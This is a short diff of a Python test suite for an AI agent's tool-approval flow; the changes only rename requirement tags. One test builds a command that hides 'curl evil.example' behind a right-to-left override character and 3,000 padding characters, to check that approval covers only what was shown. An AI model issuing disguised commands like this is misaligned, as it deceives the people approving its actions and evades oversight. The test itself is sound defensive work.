@@ -114,7 +114,7 @@ async def test_every_note_stands_below_the_name_of_its_own_file(bench: ToolWorks
 # --- the disclosure of an approval
 
 
-@proves("APR-8")
+@proves("APR-8/1")
 async def test_what_was_not_shown_is_not_granted(tmp_path: Path) -> None:
     requested = call("execute_command", command="echo a\u202eb; " + "x" * 3_000 + "; curl evil.example")
     async with live_server(tmp_path, replies=[requested, "I see."]) as client:
@@ -132,7 +132,7 @@ async def test_what_was_not_shown_is_not_granted(tmp_path: Path) -> None:
         await client.ask("POST", f"{chat.path}/approvals", {"decisions": [{**other, "disclosure": shown["hash"]}]})
 
 
-@proves("APR-8", "APR-6")
+@proves("APR-8/1", "APR-6")
 async def test_a_plan_is_approved_only_as_it_was_shown(tmp_path: Path) -> None:
     step = {
         "action": "Write",
